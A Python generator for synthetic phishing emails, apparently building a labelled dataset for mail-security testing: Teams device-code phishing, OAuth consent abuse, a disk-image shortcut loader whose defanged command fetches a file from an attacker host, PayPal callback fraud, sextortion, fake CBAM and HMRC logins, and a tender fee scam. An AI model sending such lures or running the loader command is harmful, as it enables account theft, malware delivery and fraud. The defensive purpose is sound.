"""Attacks, English (09-16)."""
from msgs import msg
from msgs.common import *  # noqa
from lib import mta, mime, ids, archive
from lib.mime import local
from lib.company import ENT, S, P

FENLAND = dict(domain='fenland-agronomy.co.uk', id='3f6c0b88-2d14-4a57-b0e9-9c4e51a7d2f0', mbx='CWXP265MB4183', pod='GBRP265',
               fe='LO4P265MB6689', region='GBR01-CWX', lang='en-GB', dkim='custom', ip='40.107.121.64')


def ics_escape(s):
    return s.replace('\\', '\\\\').replace(';', '\\;').replace(',', '\\,').replace('\n', '\\n')


def ics_fold(line):
    out = []
    b = line.encode('utf-8')
    while len(b) > 75:
        cut = 75
        while (b[cut] & 0xC0) == 0x80:
            cut -= 1
        out.append(b[:cut].decode('utf-8'))
        b = b' ' + b[cut:]
    out.append(b.decode('utf-8'))
    return '\r\n'.join(out)


@msg('attack', 9, 'en', 'teams-invite-device-code')
def a09(m):
    m.t = local('UK', 2026, 11, 30, 15, 12, 40)
    m.frm = ('Oliver Grant', 'oliver.grant@fenland-agronomy.co.uk')
    m.to = [P('vogel')]
    m.cc = [P('braun')]
    m.subject = 'Trial results review – polysulphate vs. kieserite on winter barley (Teams)'
    sysp = mta.M365(m, tenant=FENLAND, topic=m.subject)
    code = 'GQ8K4R7TM'
    url = 'https://microsoft.com/devicelogin'
    desc = ('Hi Felix,\n\nas promised at the BCPC conference, here is a slot to walk through the 2026 trial results '
            '(polysulphate vs. kieserite, winter barley, 4 sites in Lincolnshire and Norfolk). I\'ll share the yield maps and the '
            'tissue-test data on screen.\n\n'
            '________________________________________________________________________________\n'
            'Microsoft Teams meeting\n\n'
            'Our tenant uses Conditional Access for external guests. To join, open %s on your laptop or phone, enter the '
            'access code below and sign in with your work account. You will then be admitted to the meeting automatically.\n\n'
            'Access code: %s\n'
            'Meeting ID: 374 918 226 507\nPasscode: Xk4Tz9\n\n'
            'The access code is valid for 15 minutes after you open the page; if it has expired just reply and I will send a new one.\n'
            '________________________________________________________________________________\n\n'
            'Best regards,\nOliver\n\nOliver Grant BSc FACTS\nSenior Agronomist\nFenland Agronomy Partners Ltd\nT: +44 1354 697 412' % (url, code))
    plain_t = desc
    html_body = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
                 '<div style="font-family:Aptos,Calibri,sans-serif;font-size:11pt">'
                 + '<br>\n'.join(styles.linkify(l) for l in desc.split('\n'))
                 + '</div></body></html>')
    start = local('UK', 2026, 12, 3, 10, 0, 0)
    end = local('UK', 2026, 12, 3, 10, 45, 0)
    fmt = lambda t: t.strftime('%Y%m%dT%H%M%SZ')
    uid = '040000008200E00074C5B7101A82E00800000000%s' % m.hex(48, True)
    lines = ['BEGIN:VCALENDAR', 'METHOD:REQUEST', 'PRODID:Microsoft Exchange Server 2010', 'VERSION:2.0',
             'BEGIN:VEVENT',
             'ORGANIZER;CN=Oliver Grant:mailto:oliver.grant@fenland-agronomy.co.uk',
             'ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Felix Vogel:mailto:felix.vogel@examplegroup.eu',
             'ATTENDEE;ROLE=OPT-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Katrin Braun:mailto:katrin.braun@examplegroup.eu',
             'DESCRIPTION;LANGUAGE=en-GB:' + ics_escape(desc),
             'UID:' + uid, 'SUMMARY;LANGUAGE=en-GB:' + ics_escape(m.subject),
             'DTSTART:' + fmt(start), 'DTEND:' + fmt(end), 'CLASS:PUBLIC', 'PRIORITY:5',
             'DTSTAMP:' + fmt(m.t), 'TRANSP:OPAQUE', 'STATUS:CONFIRMED', 'SEQUENCE:0',
             'LOCATION;LANGUAGE=en-GB:Microsoft Teams Meeting',
             'X-MICROSOFT-CDO-APPT-SEQUENCE:0', 'X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE', 'X-MICROSOFT-CDO-INTENDEDSTATUS:BUSY',
             'X-MICROSOFT-CDO-ALLDAYEVENT:FALSE', 'X-MICROSOFT-CDO-IMPORTANCE:1', 'X-MICROSOFT-CDO-INSTTYPE:0',
             'X-MICROSOFT-DONOTFORWARDMEETING:FALSE', 'X-MICROSOFT-DISALLOW-COUNTER:FALSE', 'X-MICROSOFT-REQUESTEDATTENDANCEMODE:DEFAULT',
             'X-MICROSOFT-ISRESPONSEREQUESTED:TRUE',
             'BEGIN:VALARM', 'DESCRIPTION:REMINDER', 'TRIGGER;RELATED=START:-PT15M', 'ACTION:DISPLAY', 'END:VALARM',
             'END:VEVENT', 'END:VCALENDAR']
    ics = '\r\n'.join(ics_fold(l) for l in lines) + '\r\n'
    cal = mime.Part([('Content-Type', 'text/calendar; charset="utf-8"; method=REQUEST'), ('Content-Transfer-Encoding', 'base64')],
                    mime.b64_encode(ics.encode('utf-8')))
    root = mime.multipart('alternative', [plain(plain_t, 'utf-8', 'quoted-printable'), html(html_body, 'utf-8', 'quoted-printable'), cal],
                          sysp.boundary(0))
    sysp.finish(root)
    m.describe('Device-code phishing disguised as a Teams meeting invitation from an agronomy consultant: the "access code" is a '
               'Microsoft device-login code; entering it at the real microsoft.com/devicelogin hands the attacker a token for the victim\'s mailbox.',
               'Compromised Microsoft 365 tenant of a real-looking consultancy (all authentication passes, the only link is genuine '
               'Microsoft); no Teams join link, instead "enter this code and sign in"; code valid for 15 minutes (device-code lifetime); '
               'Storm-2372 pattern.',
               phones=['+44 1354 697 412'], must_urls=[url])


@msg('attack', 10, 'en', 'fertilizers-europe-oauth-consent')
def a10(m):
    m.t = local('CET', 2026, 10, 20, 9, 15, 22)
    m.frm = ('Fertilizers Europe – Member Services', 'members@fertilizerseurope-members.org')
    m.to = [P('schulz')]
    m.subject = 'Members\' Area: link your company account before 31 October'
    sysp = mta.Mailgun(m, domain='mg.fertilizerseurope-members.org', selector='krs')
    client_id = m.guid()
    state = m.b64(24, urlsafe=True).rstrip('=')
    url = ('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code'
           '&redirect_uri=https%%3A%%2F%%2Ffe-members-portal.com%%2Fauth%%2Fcallback&response_mode=query'
           '&scope=offline_access%%20User.Read%%20Mail.ReadWrite%%20Mail.Send%%20Files.ReadWrite.All&state=%s&prompt=consent' % (client_id, state))
    blocks = [
        'Dear Dr Schulz,',
        'From 1 November 2026 the Fertilizers Europe Members\' Area – including the CBAM benchmark working papers, the '
        'FPR/REACH regulatory tracker and the market statistics – will only be accessible with your organisation\'s Microsoft 365 '
        'account (single sign-on). Personal passwords for the old portal will be deactivated.',
        'Please link your company account once by signing in below and accepting the permissions of the <b>FE Members Portal</b> '
        'app. The app needs these permissions to synchronise meeting invitations and working-group documents with your Outlook and OneDrive.',
        'The process takes less than a minute. Member companies that have not linked an account by <b>31 October</b> will need to '
        're-apply for access through their national association.',
        'Kind regards,<br />Member Services<br />Fertilizers Europe AISBL',
    ]
    html_t = tx_html(blocks=blocks, brand='Fertilizers Europe', brand_color='#00594f', button=('Sign in with Microsoft', url, '#2f2f2f'),
                     footer=['Fertilizers Europe AISBL · Avenue des Nerviens 9-31 · 1040 Brussels · Belgium',
                             'You receive this e-mail as a registered contact of a member company.'], lang='en',
                     preheader='Single sign-on for the Members\' Area starts 1 November')
    plain_t = styles.html_to_text(html_t) + '\n\nSign in: ' + url + '\n'
    root = alt(m, plain_t, html_t, charset='utf-8', cte='quoted-printable')
    sysp.finish(root)
    m.describe('OAuth consent phishing in the name of the trade association: "link your Microsoft 365 account" button opens the '
               'real Microsoft consent page for a multi-tenant app asking for Mail.ReadWrite, Mail.Send, Files.ReadWrite.All and offline_access.',
               'Look-alike domain fertilizerseurope-members.org sent through Mailgun (authentication passes for the look-alike); the link is '
               'a genuine login.microsoftonline.com URL, so URL reputation does not help; excessive scopes, redirect to fe-members-portal.com, '
               'deadline. The genuine newsletter (business/13) comes from fertilizerseurope.com via Mailchimp.',
               must_urls=[url])


@msg('attack', 11, 'en', 'rfq-npk-iso-loader')
def a11(m):
    m.t = local('GST', 2026, 11, 25, 10, 41, 3)
    m.frm = ('Khalid Al Mansouri', 'procurement@alnoor-agritrading.com')
    m.to = [P('braun')]
    m.subject = 'RFQ 2026/EXG/2611 - NPK 15-15-15 and MOP granular, 12,000 MT CFR Jebel Ali'
    sysp = mta.EximCpanel(m, server='server.alnoor-agritrading.com', ip='91.92.243.118', client='outlook', auth='procurement@alnoor-agritrading.com',
                          client_ip='91.92.243.40', dkim=('alnoor-agritrading.com', 'default'), zone='GST', lang='en-us')
    spec = doc_pdf(m, head='AL NOOR AGRICULTURAL TRADING L.L.C.', head_sub=('Office 1408, Churchill Tower, Business Bay, Dubai, U.A.E.',),
                   recipient=('Example Group GmbH', 'Sales Department', 'Kassel, Germany'),
                   meta=(('RFQ No.', '2026/EXG/2611'), ('Date', '25/11/2026'), ('Closing', '04/12/2026')),
                   title='Request for Quotation – Technical Specification',
                   table=(('Item', 'Product', 'Specification', 'Qty (MT)'),
                          [('1', 'NPK 15-15-15', 'granular 2-4 mm, min. 90 %, moisture max 1.5 %', '8,000'),
                           ('2', 'MOP (KCl)', 'granular, K2O min. 60 %, pink/red', '4,000')], (40, 120, 250, 73), ('l', 'l', 'l', 'r')),
                   after=('Packing: 50 kg PP woven bags with PE liner, 25 MT per 20\' container. Delivery: CFR Jebel Ali, '
                          'shipment Jan/Feb 2027. Payment: irrevocable L/C at sight.',),
                   footer=('Al Noor Agricultural Trading L.L.C. · Trade Licence 1093847 · Dubai',), creator='Microsoft® Word 2016',
                   producer='Microsoft® Word 2016', color=(0.1, 0.35, 0.2))
    lnk_standin = ('[inert stand-in for a Windows shortcut file, no executable content]\r\n'
                   'Displayed name : RFQ_2026_EXG_2611.pdf\r\n'
                   'Icon           : %SystemRoot%\\System32\\imageres.dll,-102 (PDF-like)\r\n'
                   'Target (defanged): C:\\Windows\\System32\\conhost.exe --headless cmd /c start SPECS.PDF & '
                   'curl hxxps[:]//cdn-docs-share[.]top/r/2611 -o %TEMP%\\u.dat\r\n').encode('utf-8')
    iso = archive.iso9660([('RFQ_2026_EXG_2611.LNK;1', lnk_standin), ('SPECS.PDF;1', spec)], volume_id='RFQ_2611',
                          dt=(2026, 11, 25, 6, 30, 0), application='IMGBURN V2.5.8.0')
    paras = ['Dear Sir/Madam,',
             'Greetings from Al Noor Agricultural Trading L.L.C., Dubai.',
             'We are a registered importer and distributor of fertilizers for the GCC and East African markets and currently source '
             'NPK and potash for the 2027 planting season on behalf of our clients in Oman and Kenya. Your company was recommended '
             'to us by our shipping agent in Hamburg.',
             'Kindly find attached our Request for Quotation No. 2026/EXG/2611 (NPK 15-15-15 and MOP granular, total 12,000 MT, '
             'CFR Jebel Ali, shipment Jan/Feb 2027) with the full technical specification and packing requirements. The file is '
             'packed as a disk image because our mail server blocks large PDF attachments - please open it on a Windows PC.',
             'We would appreciate your best CFR offer, validity and payment terms latest by 4 December 2026. Payment will be by '
             'irrevocable L/C at sight from Emirates NBD.',
             'Looking forward to a long-term business relationship.']
    sig = ('Best Regards,\n\nKhalid Al Mansouri\nProcurement Manager\nAL NOOR AGRICULTURAL TRADING L.L.C.\nOffice 1408, Churchill Tower, '
           'Business Bay, Dubai, U.A.E.\nTel: +971 4 558 2917 | Mob: +971 52 704 3381')
    plain_t, html_t = styles.outlook('en', paras, sig, charset='us-ascii')
    root = mixed(m, [alt(m, plain_t, html_t, charset='us-ascii', cte='7bit', html_cte='quoted-printable'),
                     att(iso, 'application/octet-stream', 'RFQ_2026-EXG-2611.img', style='outlook',
                         date=mime.rfc_date(m.t, 'UTC').replace('+0000', 'GMT'))])
    sysp.finish(root)
    m.describe('Malware loader: plausible export RFQ for 12,000 t NPK/MOP with a disk-image attachment (.img) containing a shortcut '
               'disguised as a PDF plus a decoy specification PDF.',
               'Unknown buyer on a cheap cPanel host (auth passes for the sender\'s own domain); disk image "because the server blocks PDFs"; '
               '"open it on a Windows PC"; the image holds a .LNK entry (here an inert text stand-in describing the defanged command line) '
               'next to a decoy document.',
               phones=['+971 4 558 2917', '+971 52 704 3381'])


@msg('attack', 12, 'en', 'paypal-invoice-callback')
def a12(m):
    m.t = local('PT', 2026, 12, 2, 3, 18, 44)
    m.frm = ('PayPal', 'service@paypal.com')
    m.to = [P('whitfield')]
    m.reply_to = ('Nortonlifelock Billing Dept.', 'billing.nlk.support@gmail.com')
    m.subject = 'Invoice from Nortonlifelock Billing Dept. (INV2-KQ7M-3VZP-8TJR-2BDH)'
    inv = 'INV2-KQ7M-3VZP-8TJR-2BDH'
    phone = '+1 (808) 462-1935'
    sysp = mta.Platform(m, host='mx0.slc.paypal.com', ip='173.0.84.226', dkim=[('paypal.com', 'pp-dkim1')],
                        mailfrom='service@paypal.com', zone='PT', msgid_fmt='<{hex16}.{d12}@paypal.com>',
                        order=['date', 'mime', 'from', 'replyto', 'to', 'msgid', 'subject', 'extra', 'body'],
                        hops=['from pp-notify-%s (unknown [10.13.122.%d])\n\tby mx0.slc.paypal.com (Postfix) with ESMTP id %s\n\tfor <{rcpt}>; {date0c}'
                              % (m.hex(6), m.rng.randint(10, 250), m.hex(10).upper())], bstyle='--NextPart_' )
    m.extra = [('X-PP-REQUESTED-TIME', str(mime.epoch(m.t) * 1000 + 211)), ('X-PP-Email-transmission-Id', m.guid()),
               ('PP-Correlation-Id', m.hex(13)), ('X-Email-Type-Id', 'RT000238'), ('X-XPT-XSL-Name', 'nodeAPI')]
    link = 'https://www.paypal.com/invoice/p/#%s' % inv.replace('-', '')
    note = ('Your Norton 360 Total Protection annual plan (5 devices) has been renewed and charged to your account. '
            'If you did not authorise this purchase or wish to cancel, call our billing support at %s within 24 hours '
            'for a full refund. Do not pay this invoice online.' % phone)
    blocks = ['<p style="font-size:24px;font-weight:bold;margin:0 0 10px 0;">Nortonlifelock Billing Dept. sent you an invoice</p>',
              '<p style="font-size:32px;margin:0 0 16px 0;">$499.99 USD</p>',
              'Due on receipt',
              '<table cellpadding="0" cellspacing="0" style="width:100%%;border-top:1px solid #ccc;margin:10px 0;"><tr><td style="padding:10px 0;">'
              '<b>Note from seller</b><br />%s</td></tr></table>' % styles.esc(note),
              'Invoice number: %s<br />Invoice date: Dec 2, 2026' % inv]
    html_t = tx_html(blocks=blocks, brand='PayPal', brand_color='#003087', button=('View and Pay Invoice', link, '#0070e0'),
                     footer=['Help &amp; Contact | Security | Apps', 'PayPal is committed to preventing fraudulent emails. Emails from PayPal '
                             'will always contain your full name.', 'PayPal Europe S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg'],
                     lang='en', font='"Helvetica Neue",Helvetica,Arial,sans-serif')
    plain_t = ('Nortonlifelock Billing Dept. sent you an invoice\n\n$499.99 USD\nDue on receipt\n\nNote from seller\n%s\n\n'
               'Invoice number: %s\n\nView and Pay Invoice: %s\n' % (note, inv, link))
    root = alt(m, plain_t, html_t, charset='UTF-8', cte='quoted-printable', cs_upper=True)
    sysp.finish(root)
    m.describe('Callback phishing through PayPal\'s own invoicing: a "Norton renewal" invoice of $499.99 whose seller note urges the '
               'recipient to phone a support number to cancel.',
               'Delivered by PayPal itself (service@paypal.com, DKIM paypal.com, SPF pass) so all authentication passes; the fraud is in '
               'the seller-controlled note: a phone number, "do not pay online", urgency; Reply-To is a Gmail address; the company has no '
               'Norton subscription paid by PayPal.',
               phones=[phone], must_urls=[link])


@msg('attack', 13, 'en', 'sextortion-bitcoin')
def a13(m):
    m.t = local('BRT', 2026, 10, 29, 20, 52, 10)
    me = S['mitchell']['addr']
    m.frm = (None, me)
    m.to = [(None, me)]
    m.subject = 'Payment order for account %s' % me
    wallet = ids.btc_bech32(m.bytes(20))
    sysp = mta.PostfixOrg(m, relay='mail.construtoravitoria.com.br', ip='177.38.214.19', rdns='177-38-214-19.static.vivointernet.com.br',
                          helo='mail.construtoravitoria.com.br', client='other', spf='fail', dkim=None, client_ip='103.151.121.9',
                          client_host='unknown', zone='BRT', tls='1.2', msgid_host='mail.construtoravitoria.com.br')
    body = ('Hello!\n\n'
            'I have to share bad news with you.\n'
            'Approximately a few months ago I have gained access to your devices, which you use for internet browsing.\n'
            'After that, I have started tracking your internet activities.\n\n'
            'Here is the sequence of events:\n'
            'Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase such '
            'thing online). Obviously, I have easily managed to log in to your email account (%s).\n\n'
            'One week later, I have already installed a spyware driver on the operating systems of all the devices that you use to '
            'access your email. It was not a hard thing to do at all. The software gives me access to all the controllers of your '
            'devices (e.g., your microphone, video camera and keyboard). I have downloaded all your information, data, photos, web '
            'browsing history to my servers. I have access to all your messengers, social networks, emails, chat history and contacts list.\n\n'
            'I have recorded video clips of you from your camera in moments you would not want anyone to see, and I have your full '
            'contact list, including your colleagues.\n\n'
            'If you want me to delete everything, transfer 1450 USD to my bitcoin wallet (if you do not know how to do that, write '
            'to Google: "Buy Bitcoin").\n\nMy bitcoin wallet (BTC Wallet) is: %s\n\n'
            'After receiving the payment, I will delete the video and you will never hear from me again.\n'
            'I give you 50 hours (more than 2 days) to pay. I have a notice reading this letter, and the timer will work when you see this letter.\n\n'
            'Filing a complaint somewhere does not make sense because this email cannot be tracked like my bitcoin address.\n'
            'I do not make any mistakes.\n\nIf I find that you have shared this message with someone else, the video will be immediately distributed.\n\n'
            'Best regards!' % (me, wallet))
    root = plain(body, 'utf-8', 'base64')
    sysp.finish(root)
    m.describe('Sextortion: claims spyware on the recipient\'s devices and compromising videos, demands 1,450 USD in Bitcoin within 50 hours.',
               'Spoofs the recipient\'s own address as sender (SPF fail, no DKIM, DMARC fail for examplegroup.eu) from a compromised '
               'Brazilian mail server fed from an Indonesian IP; mass template with a Bitcoin wallet; no real data about the victim.',
               wallets=[wallet])


@msg('attack', 14, 'en', 'cbam-registry-eu-login')
def a14(m):
    m.t = local('CET', 2026, 12, 8, 7, 55, 30)
    m.frm = ('CBAM Registry – European Commission', 'no-reply@cbam-registry-europa.eu')
    m.to = [P('schulz')]
    m.subject = '[CBAM Registry] Action required: re-validate your authorised declarant account (EORI DE6148023)'
    sysp = mta.SES(m, region='eu-central-1', dkim_domain='cbam-registry-europa.eu', mailfrom_domain='mail.cbam-registry-europa.eu',
                   order=['from', 'to', 'subject', 'mime', 'body', 'msgid', 'date', 'extra'])
    url = 'https://ecas.cbam-registry-europa.eu/cas/login?service=https%%3A%%2F%%2Fcbam.cbam-registry-europa.eu%%2Fdeclarant%%2Frevalidate&case=%s' % m.hex(10).upper()
    blocks = ['<p style="margin:0 0 14px 0;color:#004494;font-size:18px;font-weight:bold;">CBAM Registry – authorised declarant account</p>',
              'Dear authorised CBAM declarant,',
              'As announced in the CBAM Registry newsletter of November 2026, all declarant accounts must be re-validated with EU Login '
              'two-factor authentication before the opening of the CBAM certificate sales platform on the common central platform.',
              'Our records show that the account linked to <b>EORI DE6148023 (Example Group GmbH)</b> has not yet been re-validated. '
              'Accounts that are not re-validated by <b>15 December 2026</b> will be set to read-only, and the declarant will not be able to '
              'purchase or surrender CBAM certificates for imports of fertilisers (CN 3102, 3105) and ammonia (CN 2814).',
              'Please sign in with your EU Login credentials and confirm the mobile device used for two-factor authentication.',
              '<p style="font-size:12px;color:#555555;">Case reference: CBAM-REVAL-2026-DE-04817</p>']
    html_t = tx_html(blocks=blocks, brand='European Commission', brand_color='#004494',
                     logo_html='<span style="font-size:13px;color:#004494;">&#9733; &nbsp;<b>European Commission</b> &nbsp;|&nbsp; Taxation and Customs Union</span>',
                     button=('Sign in with EU Login', url, '#004494'),
                     footer=['This is an automatically generated message from the CBAM Registry. Please do not reply.',
                             'European Commission – DG TAXUD – B-1049 Brussels'], lang='en', font='Arial,sans-serif')
    plain_t = styles.html_to_text(html_t) + '\n\nSign in with EU Login: ' + url + '\n'
    root = alt(m, plain_t, html_t, charset='UTF-8', cte='quoted-printable', cs_upper=True)
    sysp.finish(root)
    m.describe('Credential phishing tailored to the trade: fake CBAM Registry notice that the authorised-declarant account must be '
               're-validated with EU Login before the certificate sales platform opens, or fertiliser imports cannot be covered.',
               'Amazon SES mail from the look-alike cbam-registry-europa.eu (authentication passes for the look-alike, not for ec.europa.eu); '
               'login link to ecas.cbam-registry-europa.eu imitating ecas.ec.europa.eu; accurate CBAM details (EORI, CN codes) raise credibility; deadline.',
               must_urls=[url])


@msg('attack', 15, 'en', 'hmrc-vat-repayment')
def a15(m):
    m.t = local('UK', 2026, 11, 12, 6, 4, 18)
    m.frm = ('HMRC Online Services', 'no-reply@thecotswoldtearoom.co.uk')
    m.to = [P('whitfield')]
    m.subject = 'VAT repayment of £4,812.37 is ready – confirm your bank details (VRN 284 7391 22)'
    sysp = mta.EximCpanel(m, server='uk-shared-c14.webhost-serv.co.uk', ip='185.224.138.71', client='phpmailer', auth=None,
                          script_user='cotswold', mailfrom='cotswold@uk-shared-c14.webhost-serv.co.uk', spf='pass', zone='UK',
                          dkim=None, msgid_host='thecotswoldtearoom.co.uk', uid=1187)
    url = 'https://thecotswoldtearoom.co.uk/wp-content/uploads/2026/11/gateway/?ref=VRN284739122&t=%s' % m.hex(12)
    blocks = ['<p style="margin:0 0 14px 0;font-size:22px;font-weight:bold;">Your VAT repayment</p>',
              'Dear Customer,',
              'We have completed the review of your VAT Return for the period <b>07/26 – 09/26</b>. You are due a repayment of '
              '<b>&pound;4,812.37</b>.',
              'Our records show that the bank account held for repayments for VAT registration number 284 7391 22 could not be '
              'verified. To receive the repayment you must confirm your business bank details through your business tax account '
              'within 3 working days. If the details are not confirmed, the repayment will be held and a paper payable order issued, '
              'which can take up to 8 weeks.',
              'Repayment reference: XV0092 8417 3365']
    html_t = tx_html(blocks=blocks, brand='GOV.UK', brand_color='#0b0c0c',
                     logo_html='<span style="font-size:24px;font-weight:bold;color:#ffffff;background:#0b0c0c;padding:6px 10px;">GOV.UK</span>',
                     button=('Confirm bank details', url, '#00703c'),
                     footer=['HM Revenue and Customs', 'This is an automated message, please do not reply.'], lang='en',
                     font='Helvetica,Arial,sans-serif')
    plain_t = ('Your VAT repayment\n\nDear Customer,\n\nWe have completed the review of your VAT Return for the period 07/26 - 09/26. '
               'You are due a repayment of GBP 4,812.37.\n\nConfirm bank details: %s\n\nHM Revenue and Customs\n' % url)
    root = alt(m, plain_t, html_t, charset='utf-8', cte='base64')
    sysp.finish(root)
    m.describe('Tax-authority phishing: "HMRC" VAT repayment of £4,812.37 requires confirming bank details within 3 working days.',
               'Sent by a compromised WordPress site (PHPMailer on a shared cPanel host, no DKIM) whose domain has nothing to do with '
               'HMRC; link into that site\'s wp-content/uploads; HMRC never e-mails repayment links (compare the genuine HMRC notice in business/14).',
               must_urls=[url])


@msg('attack', 16, 'en', 'fake-ministry-tender-fee')
def a16(m):
    m.t = local('GMT', 2026, 10, 15, 11, 27, 45)
    m.frm = ('Ministry of Food and Agriculture - Procurement Unit', 'mofa.procurement.gh@outlook.com')
    m.to = [P('braun')]
    m.cc = [P('mitchell')]
    m.subject = 'Invitation to Tender: Supply of 20,000 MT NPK 15-15-15 (Ref. MOFA/PFJ/ICB/2026/017)'
    sysp = mta.OutlookConsumer(m, client='owa', has_attach=True)
    docx = archive.docx([
        ('title', 'REPUBLIC OF GHANA – MINISTRY OF FOOD AND AGRICULTURE'),
        ('b', 'Procurement Unit – Planting for Food and Jobs (PFJ 2.0)'),
        ('h', 'Foreign Supplier Registration Form'),
        ('p', 'Tender reference: MOFA/PFJ/ICB/2026/017 – Supply and delivery of 20,000 MT NPK 15-15-15 (50 kg bags), CIF Tema.'),
        ('t', [['Field', 'Information'], ['Company name', ''], ['Country of registration', ''], ['Registration / VAT number', ''],
               ['Contact person', ''], ['E-mail / telephone', ''], ['Annual fertilizer export volume (MT)', '']]),
        ('p', 'Registration fee (non-refundable): USD 2,450.00, payable to the accredited registration agent before release of the '
              'tender documents (bid bond requirements, technical specification, draft contract).'),
        ('p', 'Beneficiary: Danquah & Owusu Consult Ltd · Bank: Ecobank Ghana PLC, Accra Main · Account no.: 1441003928175 · '
              'SWIFT: ECOCGHAC'),
        ('p', 'Closing date for registration: 30 October 2026. Tender opening: 12 November 2026.'),
        ('small', 'Procurement Unit, Ministry of Food and Agriculture, P.O. Box M37, Accra, Ghana'),
    ], creator='PPA-Registry', company='MOFA Ghana', created='2026-10-14T16:20:00Z', title='Supplier Registration')
    paras = ['Dear Sir/Madam,',
             'The Ministry of Food and Agriculture of the Republic of Ghana, under the Planting for Food and Jobs programme (PFJ 2.0), '
             'invites eligible manufacturers to participate in International Competitive Bidding for the supply of 20,000 MT of NPK '
             '15-15-15 fertilizer (50 kg bags), CIF Tema, delivery March 2027.',
             'Your company has been shortlisted from the list of European producers provided by the Ghana Investment Promotion Centre. '
             'To receive the complete tender documents, foreign suppliers must first complete the attached Supplier Registration Form '
             'and register with the Public Procurement Authority through our accredited registration agent.',
             'Please return the completed form together with proof of payment of the registration fee to this office on or before '
             '30 October 2026. Late registrations cannot be accepted.',
             'For enquiries please call the Procurement Unit on +233 24 418 7730 (also WhatsApp).']
    sig = 'Yours faithfully,\n\nSamuel K. Asante\nHead, Procurement Unit\nMinistry of Food and Agriculture\nAccra, Ghana'
    plain_t, html_t = styles.outlook('en', paras, sig, charset='us-ascii')
    root = mixed(m, [alt(m, plain_t, html_t, charset='iso-8859-1', cte='quoted-printable'),
                     att(docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
                         'Supplier_Registration_Form_MOFA_PFJ_2026.docx', style='outlook', date=mime.rfc_date(m.t, 'UTC').replace('+0000', 'GMT'))])
    sysp.finish(root)
    m.describe('Advance-fee fraud disguised as a government fertiliser tender (Ghana, PFJ programme): supplier "shortlisted", must pay '
               'a USD 2,450 registration fee to an "accredited agent" before receiving tender documents.',
               'Ministry writing from an outlook.com address; fee to a private agent\'s account before any documents; flattering shortlisting; '
               'WhatsApp number; real public tenders publish documents openly.',
               phones=['+233 24 418 7730'], facts_extra=[('Bank account (GH, not IBAN)', 'Ecobank Ghana PLC, account 1441003928175, SWIFT ECOCGHAC')])
